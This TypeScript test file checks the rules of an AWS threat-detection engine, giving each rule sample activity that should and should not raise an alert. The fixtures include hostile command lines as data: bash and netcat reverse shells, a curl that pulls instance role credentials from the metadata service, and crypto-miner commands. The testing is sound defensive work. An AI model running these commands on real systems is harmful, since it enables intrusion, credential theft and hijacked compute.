import { describe, expect, it } from "vitest";
import type { Activity } from "../activity.ts";
import type { AnomalyModel } from "../model.ts";
import { ACCOUNT, ALICE, APP_ROLE, EVAL, INSTANCE, IPS, OTHER_ACCOUNT, T0, ct, engineFor, fakeModel, hostActivity, run, series } from "./testing.ts";

/** An Identity Center administrator's session: the session name is the person's user name. */
const SSO_ADMIN = { actor: `arn:aws:iam::${ACCOUNT}:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_AdministratorAccess_0123456789abcdef`, actorType: "AssumedRole", session: "dana@example.com" } as const;

/** One rule's cases: sequences that must raise it and sequences that must not. */
interface Case {
  id: string;
  history?: Activity[];
  model?: AnomalyModel;
  fires: Array<[string, () => Activity[]]>;
  quiet: Array<[string, () => Activity[]]>;
}

const anomalous = fakeModel({}, 0.95);
const habitual = fakeModel({}, 0.1);
const MIN = 60_000;
const DAY = 86_400_000;
const BOB = `arn:aws:iam::${ACCOUNT}:user/bob`;
const SSO_ROLE = `arn:aws:iam::${ACCOUNT}:role/aws-reserved/sso.amazonaws.com/AWSReservedSSO_DataAnalyst_0123456789abcdef`;
/** A session of one person in the Identity Center role. */
const sso = (person: string, over: Partial<Activity> = {}) => ({ actor: SSO_ROLE, actorType: "AssumedRole" as const, session: person, ...over });
const instanceRole = (over: Partial<Activity> = {}) => ({ actor: APP_ROLE, actorType: "AssumedRole" as const, session: INSTANCE, ...over });
const adminPolicy = { Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] };

const CASES: Case[] = [
  {
    id: "instance-credential-exfiltration",
    history: [ct("s3:ListBuckets", { ...instanceRole({ sourceIp: IPS.aws }), time: T0 })],
    fires: [["instance session from a VPS", () => [ct("sts:GetCallerIdentity", instanceRole({ sourceIp: IPS.vps }))]]],
    quiet: [
      ["instance session from AWS", () => [ct("s3:ListBuckets", instanceRole({ sourceIp: "54.9.9.9" }))]],
      ["non-instance session from a VPS", () => [ct("s3:ListBuckets", instanceRole({ session: "deploy-42", sourceIp: IPS.vps }))]],
      ["an address the role used in history", () => [ct("s3:ListBuckets", instanceRole({ sourceIp: IPS.aws }))]],
    ],
  },
  {
    // The Lambda role called only from AWS on three days; the SSO role also from home.
    id: "workload-credential-exfiltration",
    history: [0, 1, 2].flatMap((d) => [
      ...series(10, T0 + d * DAY, MIN, () => ct("s3:GetObject", { actor: APP_ROLE, actorType: "AssumedRole", session: "orders-handler", sourceIp: IPS.aws })),
      ...series(10, T0 + d * DAY, MIN, () => ct("s3:GetObject", sso("ana@example.com", { sourceIp: d === 0 ? IPS.home : IPS.aws }))),
    ]),
    fires: [["the Lambda role's session calls from a VPS", () => [ct("sts:AssumeRole", { actor: APP_ROLE, actorType: "AssumedRole", session: "orders-handler", sourceIp: IPS.vps })]]],
    quiet: [
      ["the Lambda role from AWS", () => [ct("sts:AssumeRole", { actor: APP_ROLE, actorType: "AssumedRole", session: "orders-handler", sourceIp: "54.9.9.9" })]],
      ["a role that called from outside AWS in history", () => [ct("s3:GetObject", sso("ana@example.com", { sourceIp: IPS.vps }))]],
      ["an instance session (the instance signal's)", () => [ct("s3:GetObject", { actor: APP_ROLE, actorType: "AssumedRole", session: INSTANCE, sourceIp: IPS.vps })]],
      ["a role new to history", () => [ct("s3:GetObject", { actor: `arn:aws:iam::${ACCOUNT}:role/new-fn`, actorType: "AssumedRole", session: "new-fn", sourceIp: IPS.vps })]],
    ],
  },
  {
    id: "tor-ip-caller",
    fires: [["call from a Tor exit", () => [ct("iam:ListUsers", { sourceIp: IPS.tor })]]],
    quiet: [["call from home", () => [ct("iam:ListUsers")]]],
  },
  {
    id: "malicious-ip-caller",
    fires: [["call from a listed IP", () => [ct("iam:CreateUser", { sourceIp: IPS.bad })]]],
    quiet: [["call from an unlisted IP", () => [ct("iam:CreateUser", { sourceIp: IPS.vps })]]],
  },
  {
    id: "console-login-unusual-network",
    model: fakeModel({ "asn:14061": 0.95 }),
    fires: [["sign-in without MFA from a foreign network", () => [ct("signin:ConsoleLogin", { sourceIp: IPS.vps, mfa: false, console: true })]]],
    quiet: [
      ["sign-in from a habitual network", () => [ct("signin:ConsoleLogin", { mfa: false })]],
      ["failed sign-in from a foreign network", () => [ct("signin:ConsoleLogin", { sourceIp: IPS.vps, error: "Failed authentication" })]],
    ],
  },
  {
    id: "cloudtrail-logging-disabled",
    fires: [["StopLogging", () => [ct("cloudtrail:StopLogging", { resources: ["org-trail"] })]]],
    quiet: [
      ["StartLogging", () => [ct("cloudtrail:StartLogging")]],
      ["denied StopLogging", () => [ct("cloudtrail:StopLogging", { error: "AccessDenied" })]],
    ],
  },
  {
    id: "password-policy-change",
    fires: [
      ["policy deleted", () => [ct("iam:DeleteAccountPasswordPolicy")]],
      ["policy weakened", () => [ct("iam:UpdateAccountPasswordPolicy", { request: { minimumPasswordLength: 6, requireSymbols: false } })]],
    ],
    quiet: [["policy strengthened", () => [ct("iam:UpdateAccountPasswordPolicy", { request: { minimumPasswordLength: 16, requireSymbols: true } })]]],
  },
  {
    id: "defense-evasion-anomalous",
    fires: [
      ["detector deleted", () => [ct("guardduty:DeleteDetector")]],
      ["detector suspended", () => [ct("guardduty:UpdateDetector", { request: { enable: false } })]],
    ],
    quiet: [
      ["routine event selector change", () => [ct("cloudtrail:PutEventSelectors")]],
      ["detector re-enabled", () => [ct("guardduty:UpdateDetector", { request: { enable: true } })]],
    ],
  },
  {
    id: "bucket-block-public-access-disabled",
    fires: [
      ["bucket block deleted", () => [ct("s3:DeleteBucketPublicAccessBlock", { resources: ["data"] })]],
      ["bucket block set false", () => [ct("s3:PutBucketPublicAccessBlock", { request: { PublicAccessBlockConfiguration: { BlockPublicAcls: false, BlockPublicPolicy: false } } })]],
      ["account block deleted", () => [ct("s3-control:DeleteAccountPublicAccessBlock")]],
    ],
    quiet: [
      ["bucket block set true", () => [ct("s3:PutBucketPublicAccessBlock", { request: { PublicAccessBlockConfiguration: { BlockPublicAcls: true, IgnorePublicAcls: true, BlockPublicPolicy: true, RestrictPublicBuckets: true } } })]],
      ["block read", () => [ct("s3:GetBucketPublicAccessBlock")]],
    ],
  },
  {
    id: "bucket-anonymous-access-granted",
    fires: [["policy with Principal *", () => [ct("s3:PutBucketPolicy", { request: { bucketPolicy: { Statement: [{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "arn:aws:s3:::data/*" }] } } })]]],
    quiet: [
      ["policy for one account", () => [ct("s3:PutBucketPolicy", { request: { bucketPolicy: { Statement: [{ Effect: "Allow", Principal: { AWS: `arn:aws:iam::${ACCOUNT}:root` }, Action: "s3:GetObject", Resource: "*" }] } } })]],
      ["Principal * restricted by a condition", () => [ct("s3:PutBucketPolicy", { request: { bucketPolicy: { Statement: [{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: "*", Condition: { StringEquals: { "aws:SourceVpce": "vpce-1" } } }] } } })]],
    ],
  },
  {
    id: "discovery-burst",
    model: fakeModel({ "api:iam:ListUsers": 0.95, "api:iam:ListRoles": 0.95, "api:ec2:DescribeInstances": 0.95, "api:iam:ListAccessKeys": 0.95 }),
    fires: [["twelve distinct APIs, four unusual", () => ["iam:ListUsers", "iam:ListRoles", "ec2:DescribeInstances", "iam:ListAccessKeys", ...Array.from({ length: 8 }, (_, i) => `s3:GetBucket${i}`)].map((x) => ct(x))]],
    quiet: [
      ["twelve habitual APIs", () => Array.from({ length: 12 }, (_, i) => ct(`s3:GetBucket${i}`))],
      ["four unusual APIs, little breadth", () => ["iam:ListUsers", "iam:ListRoles", "ec2:DescribeInstances", "iam:ListAccessKeys"].map((x) => ct(x))],
      ["the same APIs spread over hours", () => ["iam:ListUsers", "iam:ListRoles", "ec2:DescribeInstances", "iam:ListAccessKeys", ...Array.from({ length: 8 }, (_, i) => `s3:GetBucket${i}`)].map((x, i) => ct(x, { time: EVAL + i * 20 * MIN }))],
    ],
  },
  {
    id: "anomalous-read-api",
    model: fakeModel({ "api:iam:ListUsers": 0.95 }),
    fires: [["an unusual read", () => [ct("iam:ListUsers")]]],
    quiet: [
      ["a habitual read", () => [ct("s3:ListBuckets")]],
      ["an unusual write", () => [ct("iam:ListUsers", { readOnly: false })]],
    ],
  },
  {
    id: "s3-discovery-anomalous",
    model: fakeModel({ "api:s3:ListBuckets": 0.9 }),
    fires: [["unusual bucket listing", () => [ct("s3:ListBuckets")]]],
    quiet: [["habitual object listing", () => [ct("s3:ListObjects")]]],
  },
  {
    id: "persistence-anomalous",
    model: fakeModel({ "api:iam:CreateAccessKey": 0.95, "api:iam:CreateUser": 0.95 }),
    fires: [
      ["key for another user", () => [ct("iam:CreateAccessKey", { request: { userName: "bob" } })]],
      ["an Identity Center user's key for someone else", () => [ct("iam:CreateAccessKey", { ...SSO_ADMIN, request: { userName: "bob" } })]],
      ["role trust opened to a foreign account", () => [ct("iam:UpdateAssumeRolePolicy", { request: { roleName: "ops", policyDocument: JSON.stringify({ Statement: [{ Effect: "Allow", Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "sts:AssumeRole" }] }) } })]],
    ],
    quiet: [
      ["own key rotation", () => [ct("iam:CreateAccessKey", { request: { userName: "alice" } })]],
      ["own key without a user name", () => [ct("iam:CreateAccessKey")]],
      ["an Identity Center user's key for their own IAM user", () => [ct("iam:CreateAccessKey", { ...SSO_ADMIN, request: { userName: "dana@example.com" } })]],
    ],
  },
  {
    // Alice, settled at home with the CLI, onboards people now and then: the model sees nothing new.
    id: "persistence-anomalous",
    history: [0, 1, 2].flatMap((d) => series(6, T0 + d * DAY, MIN, () => ct("iam:CreateAccessKey", { request: { userName: "new.hire" } }))),
    model: fakeModel(),
    fires: [
      ["a key for another user made from a network none of her habits", () => [ct("iam:CreateAccessKey", { sourceIp: IPS.vps, request: { userName: "support-1" } })]],
      // The console token she minted there: a federated user new to history is judged by her places.
      ["a console password for another user made from there through her federated user", () => [ct("iam:CreateLoginProfile", { actor: `arn:aws:sts::${ACCOUNT}:federated-user/alice`, actorType: "FederatedUser", issuer: ALICE, sourceIp: IPS.vps, request: { userName: "support-1" } })]],
    ],
    quiet: [
      ["the same key made from home", () => [ct("iam:CreateAccessKey", { request: { userName: "support-1" } })]],
      // No way back in yet: a bare user or role, whatever the place.
      ["a user created from elsewhere", () => [ct("iam:CreateUser", { sourceIp: IPS.vps, request: { userName: "support-1" } })]],
      ["a role created from elsewhere", () => [ct("iam:CreateRole", { sourceIp: IPS.vps, request: { roleName: "svc" } })]],
      ["her own key rotated from elsewhere", () => [ct("iam:CreateAccessKey", { sourceIp: IPS.vps, request: { userName: "alice" } })]],
      ["her own password changed from elsewhere through her federated user's console", () => [ct("iam:UpdateLoginProfile", { actor: `arn:aws:sts::${ACCOUNT}:federated-user/alice`, actorType: "FederatedUser", issuer: ALICE, sourceIp: IPS.vps, request: { userName: "alice" } })]],
    ],
  },
  {
    id: "privilege-escalation-anomalous",
    fires: [
      ["AdministratorAccess attached", () => [ct("iam:AttachUserPolicy", { request: { userName: "alice", policyArn: "arn:aws:iam::aws:policy/AdministratorAccess" } })]],
      ["allow-all inline policy", () => [ct("iam:PutUserPolicy", { request: { userName: "x", policyDocument: JSON.stringify(adminPolicy) } })]],
    ],
    quiet: [
      ["read-only policy attached", () => [ct("iam:AttachUserPolicy", { request: { policyArn: "arn:aws:iam::aws:policy/ReadOnlyAccess" } })]],
      ["scoped inline policy", () => [ct("iam:PutRolePolicy", { request: { policyDocument: { Statement: [{ Effect: "Allow", Action: "s3:GetObject", Resource: "*" }] } } })]],
    ],
  },
  {
    id: "credential-access-anomalous",
    model: fakeModel({ [`${ALICE}|api:secretsmanager:GetSecretValue`]: 0.95 }),
    fires: [["unusual secret reads", () => Array.from({ length: 6 }, (_, i) => ct("secretsmanager:GetSecretValue", { resources: [`secret-${i}`] }))]],
    quiet: [
      ["a habitual reader", () => Array.from({ length: 6 }, () => ct("secretsmanager:GetSecretValue", { actor: APP_ROLE, actorType: "AssumedRole" }))],
      ["parameters without decryption", () => [ct("ssm:GetParameters", { request: { withDecryption: false } })]],
    ],
  },
  {
    // Alice, settled at home with the CLI; the model sees nothing new in secret reads (her peers read them).
    id: "credential-access-anomalous",
    history: [0, 1, 2].flatMap((d) => series(6, T0 + d * DAY, MIN, () => ct("s3:ListBuckets"))),
    model: fakeModel(),
    fires: [["decrypted parameters read from a network none of her habits", () => Array.from({ length: 6 }, (_, i) => ct("ssm:GetParametersByPath", { sourceIp: IPS.vps, request: { path: `/app/${i}`, withDecryption: true } }))]],
    quiet: [["the same reads from home", () => Array.from({ length: 6 }, (_, i) => ct("ssm:GetParametersByPath", { request: { path: `/app/${i}`, withDecryption: true } }))]],
  },
  {
    id: "s3-exfiltration-volume",
    history: series(3, T0, DAY, () => ct("s3:GetObject", { bytes: 1000 })),
    fires: [["300 objects in an hour", () => series(300, EVAL, 5000, () => ct("s3:GetObject", { bytes: 1_000_000, resources: ["data"] }))]],
    quiet: [["20 objects", () => series(20, EVAL, 5000, () => ct("s3:GetObject", { bytes: 1_000_000 }))]],
  },
  {
    // One Identity Center role: ben reads 150 objects a day, ana 5; the role as a whole about 155.
    id: "s3-exfiltration-volume",
    history: [0, 1, 2].flatMap((d) => [
      ...series(150, T0 + d * DAY, 1000, () => ct("s3:GetObject", sso("ben@example.com", { resources: ["data"] }))),
      ...series(5, T0 + d * DAY, 1000, () => ct("s3:GetObject", sso("ana@example.com", { resources: ["data"] }))),
    ]),
    fires: [["300 objects by ana, far above her own usual day", () => series(300, EVAL, 5000, () => ct("s3:GetObject", sso("ana@example.com", { resources: ["data"] })))]],
    quiet: [["300 objects by ben, within his usual days", () => series(300, EVAL, 5000, () => ct("s3:GetObject", sso("ben@example.com", { resources: ["data"] })))]],
  },
  {
    id: "bucket-replication-foreign-account",
    history: [ct("s3:ListBuckets", { time: T0, account: OTHER_ACCOUNT })],
    fires: [["replication to an unknown account", () => [ct("s3:PutBucketReplication", { request: { ReplicationConfiguration: { Rule: { Destination: { Bucket: "arn:aws:s3:::loot", Account: "999999999999" } } } } })]]],
    quiet: [
      ["replication to an organisation account", () => [ct("s3:PutBucketReplication", { request: { ReplicationConfiguration: { Rule: { Destination: { Bucket: "arn:aws:s3:::dr", Account: OTHER_ACCOUNT } } } } })]],
      ["same-account replication", () => [ct("s3:PutBucketReplication", { request: { ReplicationConfiguration: { Rule: { Destination: { Bucket: "arn:aws:s3:::replica" } } } } })]],
    ],
  },
  {
    id: "s3-bulk-read-unfamiliar-bucket",
    // Alice read objects from team-share on three days of history.
    history: [0, 1, 2].map((d) => ct("s3:GetObject", { time: T0 + d * DAY, resources: ["team-share"] })),
    fires: [["120 reads from a bucket alice never read", () => series(120, EVAL, 10_000, () => ct("s3:GetObject", { resources: ["finance-exports"] }))]],
    quiet: [
      ["120 reads from her own bucket", () => series(120, EVAL, 10_000, () => ct("s3:GetObject", { resources: ["team-share"] }))],
      ["50 reads from a bucket she never read", () => series(50, EVAL, 10_000, () => ct("s3:GetObject", { resources: ["finance-exports"] }))],
      ["120 reads spread over two days", () => series(120, EVAL, 30 * MIN, () => ct("s3:GetObject", { resources: ["finance-exports"] }))],
      ["120 reads by an actor with no settled history", () => series(120, EVAL, 10_000, () => ct("s3:GetObject", { actor: `arn:aws:iam::${ACCOUNT}:user/newcomer`, resources: ["finance-exports"] }))],
    ],
  },
  {
    // One Identity Center role: ana read team-share and ben finance-exports, each on three days.
    id: "s3-bulk-read-unfamiliar-bucket",
    history: [0, 1, 2].flatMap((d) => [
      ct("s3:GetObject", sso("ana@example.com", { time: T0 + d * DAY, resources: ["team-share"] })),
      ct("s3:GetObject", sso("ben@example.com", { time: T0 + d * DAY, resources: ["finance-exports"] })),
    ]),
    fires: [["120 reads by ana from the bucket only ben read", () => series(120, EVAL, 10_000, () => ct("s3:GetObject", sso("ana@example.com", { resources: ["finance-exports"] })))]],
    quiet: [
      ["120 reads by ben from his bucket", () => series(120, EVAL, 10_000, () => ct("s3:GetObject", sso("ben@example.com", { resources: ["finance-exports"] })))],
      ["120 reads by a person new to history from a bucket the role reads", () => series(120, EVAL, 10_000, () => ct("s3:GetObject", sso("cleo@example.com", { resources: ["finance-exports"] })))],
    ],
  },
  {
    id: "s3-copy-to-unknown-bucket",
    history: [ct("s3:GetObject", { time: T0, resources: ["team-share"] })],
    fires: [["30 uploads to a bucket never seen", () => series(30, EVAL, MIN, () => ct("s3:PutObject", { resources: ["someones-backup"] }))]],
    quiet: [
      ["30 uploads to a bucket of history", () => series(30, EVAL, MIN, () => ct("s3:PutObject", { resources: ["team-share"] }))],
      ["30 uploads to a bucket created in the period", () => [ct("s3:CreateBucket", { time: EVAL - MIN, resources: ["new-bucket"] }), ...series(30, EVAL, MIN, () => ct("s3:PutObject", { resources: ["new-bucket"] }))]],
      ["a few uploads to a bucket never seen", () => series(5, EVAL, MIN, () => ct("s3:PutObject", { resources: ["someones-backup"] }))],
    ],
  },
  {
    id: "s3-delete-burst",
    model: anomalous,
    fires: [["five DeleteObjects batches", () => series(5, EVAL, MIN, () => ct("s3:DeleteObjects", { resources: ["data"] }))]],
    quiet: [["two batches", () => series(2, EVAL, MIN, () => ct("s3:DeleteObjects"))]],
  },
  {
    id: "bucket-versioning-suspended",
    fires: [["versioning suspended", () => [ct("s3:PutBucketVersioning", { request: { VersioningConfiguration: { Status: "Suspended" } } })]]],
    quiet: [["versioning enabled", () => [ct("s3:PutBucketVersioning", { request: { VersioningConfiguration: { Status: "Enabled" } } })]]],
  },
  {
    id: "s3-ransom-encryption",
    fires: [["SSE-C copies over objects", () => series(4, EVAL, MIN, () => ct("s3:CopyObject", { request: { "x-amz-server-side-encryption-customer-algorithm": "AES256" } }))]],
    quiet: [["plain copies", () => series(4, EVAL, MIN, () => ct("s3:CopyObject", { request: { "x-amz-copy-source": "a/b" } }))]],
  },
  {
    id: "s3-lifecycle-expiration",
    fires: [["expire after one day", () => [ct("s3:PutBucketLifecycle", { request: { LifecycleConfiguration: { Rule: { Expiration: { Days: 1 } } } } })]]],
    quiet: [["expire after 90 days", () => [ct("s3:PutBucketLifecycle", { request: { LifecycleConfiguration: { Rule: { Expiration: { Days: 90 } } } } })]]],
  },
  {
    id: "compute-hijack-launch",
    model: fakeModel({ "region:ap-south-1": 0.95 }),
    fires: [["GPU instances in a new region", () => [ct("ec2:RunInstances", { region: "ap-south-1", request: { instanceType: "p3.16xlarge", instancesSet: { items: [{ maxCount: 4 }] } } })]]],
    quiet: [
      ["a t3 instance", () => [ct("ec2:RunInstances", { request: { instanceType: "t3.medium", instancesSet: { items: [{ maxCount: 1 }] } } })]],
      ["many t3 instances in a habitual region", () => [ct("ec2:RunInstances", { request: { instanceType: "t3.medium", instancesSet: { items: [{ maxCount: 12 }] } } })]],
    ],
  },
  {
    id: "federation-token",
    model: fakeModel({ [`${BOB}|api:sts:GetFederationToken`]: 0.95 }),
    fires: [["a federation token unusual for its caller", () => [ct("sts:GetFederationToken", { actor: BOB, request: { name: "x", policy: JSON.stringify(adminPolicy) } })]]],
    quiet: [
      ["a habitual scoped federation token", () => [ct("sts:GetFederationToken", { request: { name: "x", policy: JSON.stringify({ Statement: [{ Effect: "Allow", Action: "s3:GetObject", Resource: "*" }] }) } })]],
      // A session policy only narrows the caller's rights: allow-all is aws-vault's everyday console login.
      ["a habitual allow-all federation token", () => [ct("sts:GetFederationToken", { request: { name: "x", policy: JSON.stringify(adminPolicy) } })]],
    ],
  },
  {
    id: "messaging-abuse",
    model: anomalous,
    fires: [
      ["new sender verified", () => [ct("ses:VerifyEmailIdentity")]],
      ["quota probed in three regions", () => ["us-east-1", "eu-west-1", "ap-southeast-2"].map((region) => ct("ses:GetSendQuota", { region }))],
    ],
    quiet: [
      ["quota read in one region", () => [ct("ses:GetSendQuota"), ct("ses:GetSendQuota")]],
      ["a new SNS topic", () => [ct("sns:CreateTopic")]],
    ],
  },
  {
    // Peers verify senders (the model finds it habitual), but alice never did.
    id: "messaging-abuse",
    model: habitual,
    history: [ct("ses:ListIdentities", { time: T0 }), ct("ses:VerifyEmailIdentity", { actor: BOB, time: T0 }), ct("sns:SetSMSAttributes", { actor: `arn:aws:iam::${ACCOUNT}:user/dan`, time: T0 })],
    fires: [["a sender verified by an actor that never set up sending", () => [ct("ses:VerifyEmailIdentity")]]],
    quiet: [
      ["a sender verified by an actor that has verified before", () => [ct("ses:VerifyEmailIdentity", { actor: BOB })]],
      ["a sender verified by an actor that set up SMS sending before", () => [ct("ses:VerifyEmailIdentity", { actor: `arn:aws:iam::${ACCOUNT}:user/dan` })]],
      ["a sender verified by an actor with no history (peers decide)", () => [ct("ses:VerifyEmailIdentity", { actor: `arn:aws:iam::${ACCOUNT}:user/carol` })]],
      ["a probe in one region by an actor that never probed", () => [ct("ses:GetSendQuota")]],
    ],
  },
  {
    id: "bedrock-invocation-burst",
    fires: [["60 invocations by a first-time user", () => series(60, EVAL, 30_000, () => ct("bedrock:InvokeModel"))]],
    quiet: [["20 invocations", () => series(20, EVAL, 30_000, () => ct("bedrock:InvokeModel"))]],
  },
  {
    id: "cross-account-assume-role",
    fires: [["first hop into another account", () => [ct("sts:AssumeRole", { account: OTHER_ACCOUNT, request: { roleArn: `arn:aws:iam::${OTHER_ACCOUNT}:role/deploy` } })]]],
    quiet: [["same-account role", () => [ct("sts:AssumeRole", { request: { roleArn: `arn:aws:iam::${ACCOUNT}:role/deploy` } })]]],
  },
  {
    id: "root-credential-usage",
    fires: [["root call", () => [ct("iam:ListUsers", { actor: `root:${ACCOUNT}`, actorType: "Root" })]]],
    quiet: [["IAM user call", () => [ct("iam:ListUsers")]]],
  },
  {
    id: "pentest-user-agent",
    fires: [["Kali user agent", () => [ct("sts:GetCallerIdentity", { userAgent: "aws-cli/1.22.34 Python/3.9.11 Linux/5.15.0-kali3-amd64 botocore/1.24.21" })]]],
    quiet: [["Amazon Linux user agent", () => [ct("sts:GetCallerIdentity", { userAgent: "aws-cli/2.15.0 Python/3.11 Linux/6.1.84-99.169.amzn2023.x86_64" })]]],
  },
  {
    id: "unusual-origin-for-user",
    model: fakeModel({ "asn:14061": 0.95 }),
    fires: [["call from a foreign network", () => [ct("s3:ListBuckets", { sourceIp: IPS.vps })]]],
    quiet: [["call from home", () => [ct("s3:ListBuckets")]]],
  },
  {
    id: "new-api-common-for-peers",
    history: [ct("s3:ListBuckets", { time: T0 })],
    model: habitual,
    fires: [["an API alice never called", () => [ct("ec2:DescribeVpcs")]]],
    quiet: [
      ["an API alice called", () => [ct("s3:ListBuckets")]],
      ["an actor without history", () => [ct("ec2:DescribeVpcs", { actor: "arn:aws:iam::111111111111:user/newbie" })]],
    ],
  },
  {
    id: "access-denied-burst",
    fires: [["twelve denials in ten minutes", () => series(12, EVAL, 50_000, (i) => ct(`iam:List${i}`, { error: "AccessDenied" }))]],
    quiet: [
      ["five denials", () => series(5, EVAL, 50_000, () => ct("iam:ListUsers", { error: "AccessDenied" }))],
      ["twelve throttles", () => series(12, EVAL, 50_000, () => ct("iam:ListUsers", { error: "ThrottlingException" }))],
    ],
  },
  {
    id: "mining-domain-query",
    fires: [["pool resolved", () => [hostActivity("dns:query", { domain: "pool.supportxmr.com.", answers: [IPS.pool] }, { source: "route53-resolver" })]]],
    quiet: [["AWS endpoint resolved", () => [hostActivity("dns:query", { domain: "s3.us-east-1.amazonaws.com" }, { source: "route53-resolver" })]]],
  },
  {
    id: "mining-pool-connection",
    fires: [
      ["flow to a pool address", () => [hostActivity("dns:query", { domain: "pool.supportxmr.com", answers: [IPS.pool] }), hostActivity("flow:ACCEPT", { dstIp: IPS.pool, dstPort: 443 }, { source: "vpc-flow" })]],
      ["Stratum port to a new address", () => [hostActivity("network:open", { dstIp: "203.0.113.9", dstPort: 3333 })]],
      ["a miner's process to an unlisted pool on 443", () => [hostActivity("network:open", { dstIp: "203.0.113.9", dstPort: 443, process: "kworker", cmdLine: "/tmp/.x/kworker -o stratum+tcp://pool.example.net:443 --donate-level 1" })]],
    ],
    quiet: [
      ["HTTPS to a new address", () => [hostActivity("flow:ACCEPT", { dstIp: "203.0.113.9", dstPort: 443 }, { source: "vpc-flow" })]],
      ["curl to a new address on 443", () => [hostActivity("network:open", { dstIp: "203.0.113.9", dstPort: 443, process: "curl", cmdLine: "curl -fsSL https://example.net/install.sh" })]],
    ],
  },
  {
    id: "c2-beacon",
    fires: [["a connection every minute", () => series(12, EVAL, MIN, () => hostActivity("flow:ACCEPT", { dstIp: "198.51.100.7", dstPort: 443 }, { source: "vpc-flow" }))]],
    quiet: [
      ["irregular connections", () => [0, 1, 5, 6, 20, 21, 40, 47, 48, 60, 90, 91].map((m) => ({ ...hostActivity("flow:ACCEPT", { dstIp: "198.51.100.7", dstPort: 443 }, { source: "vpc-flow" }), time: EVAL + m * MIN }))],
      ["a private peer", () => series(12, EVAL, MIN, () => hostActivity("flow:ACCEPT", { dstIp: "10.0.0.5", dstPort: 443 }, { source: "vpc-flow" }))],
    ],
  },
  {
    id: "c2-beacon-dns",
    model: fakeModel({ "domain:evil-cdn.top": 0.95 }),
    fires: [["a query every minute", () => series(12, EVAL, MIN, () => hostActivity("dns:query", { domain: "x1.evil-cdn.top" }))]],
    quiet: [["a habitual heartbeat domain", () => series(12, EVAL, MIN, () => hostActivity("dns:query", { domain: "hb.monitoring.io" }))]],
  },
  {
    id: "reverse-shell",
    fires: [
      ["bash to /dev/tcp", () => [hostActivity("process:start", { process: "bash", cmdLine: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1" })]],
      ["nc -e", () => [hostActivity("process:start", { process: "nc", cmdLine: "nc 203.0.113.5 4444 -e /bin/sh" })]],
    ],
    quiet: [["a port wait", () => [hostActivity("process:start", { process: "bash", cmdLine: "timeout 1 bash -c '</dev/tcp/db.internal/5432'" })]]],
  },
  {
    id: "imds-credential-fetch",
    model: fakeModel({ "process:curl": 0.95 }),
    fires: [["curl of role credentials", () => [hostActivity("process:start", { process: "curl", cmdLine: "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app-role" })]]],
    quiet: [
      ["habitual SDK refresh", () => [hostActivity("process:start", { process: "python3", cmdLine: "python3 -c get http://169.254.169.254/latest/meta-data/iam/security-credentials/" })]],
      ["curl of the instance id", () => [hostActivity("process:start", { process: "curl", cmdLine: "curl -s http://169.254.169.254/latest/meta-data/instance-id" })]],
    ],
  },
  {
    id: "metadata-dns-rebind",
    fires: [["a name answering 169.254.169.254", () => [hostActivity("dns:query", { domain: "169.254.169.254.nip.io", answers: ["169.254.169.254"] })]]],
    quiet: [["a normal answer", () => [hostActivity("dns:query", { domain: "example.com", answers: ["93.184.216.34"] })]]],
  },
  {
    id: "crypto-miner-executed",
    fires: [["a renamed miner", () => [hostActivity("process:start", { process: "kworkerd", cmdLine: "/tmp/.x/kworkerd -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1" })]]],
    quiet: [["a web server", () => [hostActivity("process:start", { process: "nginx", cmdLine: "nginx -g daemon off;" })]]],
  },
  {
    id: "new-binary-executed",
    model: fakeModel({ "process:kworkerd": 0.95 }),
    fires: [["an unusual binary in /tmp", () => [hostActivity("process:start", { process: "kworkerd", path: "/tmp/.x/kworkerd", cmdLine: "/tmp/.x/kworkerd" })]]],
    quiet: [["a habitual installer in /tmp", () => [hostActivity("process:start", { process: "install.sh", path: "/tmp/install.sh", cmdLine: "/tmp/install.sh" })]]],
  },
];

describe("signal rules", () => {
  for (const c of CASES) {
    describe(c.id, () => {
      for (const [name, make] of c.fires) {
        it(`fires: ${name}`, () => {
          const signals = run(engineFor(c.id, { history: c.history ?? [], model: c.model ?? anomalous }), make());
          expect(signals.length).toBeGreaterThan(0);
          for (const s of signals) {
            expect(s.evidence.length).toBeGreaterThan(20);
            expect(s.indicators.length).toBeGreaterThan(0);
            expect(s.activityIds.length).toBeGreaterThan(0);
            expect(s.id).toBe(`${s.type}@${s.activity.id}`);
          }
        });
      }
      for (const [name, make] of c.quiet) {
        it(`stays quiet: ${name}`, () => {
          expect(run(engineFor(c.id, { history: c.history ?? [], model: c.model ?? habitual }), make())).toEqual([]);
        });
      }
    });
  }

  it("rates a Tor call low for a person who used Tor in history, from any exit, but not for their teammate", () => {
    const history = [ct("s3:ListBuckets", sso("ana@example.com", { time: T0, sourceIp: IPS.tor })), ct("s3:ListBuckets", sso("ben@example.com", { time: T0 }))];
    const severity = (person: string) => run(engineFor("tor-ip-caller", { history }), [ct("iam:ListUsers", sso(person, { sourceIp: IPS.tor2 }))])[0]!.severity;
    expect(severity("ana@example.com")).toBe(2);
    expect(severity("ben@example.com")).toBe(5);
  });

  it("reports an upload to an unknown bucket again, at high severity, once it grows to a bulk copy", () => {
    const history = [ct("s3:GetObject", { time: T0, resources: ["team-share"] })];
    const signals = run(engineFor("s3-copy-to-unknown-bucket", { history }), series(250, EVAL, 10_000, () => ct("s3:PutObject", { resources: ["someones-backup"] })));
    expect(signals.map((s) => [s.severity, s.evidence.match(/wrote (\d+) objects/)![1]])).toEqual([[7, "20"], [8, "200"]]);
  });

  it("reports a bulk read again each time it doubles, not on every read", () => {
    const history = series(3, T0, DAY, () => ct("s3:GetObject", { bytes: 1000 }));
    const signals = run(engineFor("s3-exfiltration-volume", { history }), series(900, EVAL, 5000, () => ct("s3:GetObject", { bytes: 1000, resources: ["data"] })));
    expect(signals.map((s) => s.evidence.match(/read (\d+) objects/)![1])).toEqual(["200", "400", "800"]);
  });

  it("covers every registered rule", async () => {
    const { SIGNAL_DEFINITIONS } = await import("./registry.ts");
    expect(new Set(CASES.map((c) => c.id))).toEqual(new Set(SIGNAL_DEFINITIONS.map((d) => d.id)));
  });
});
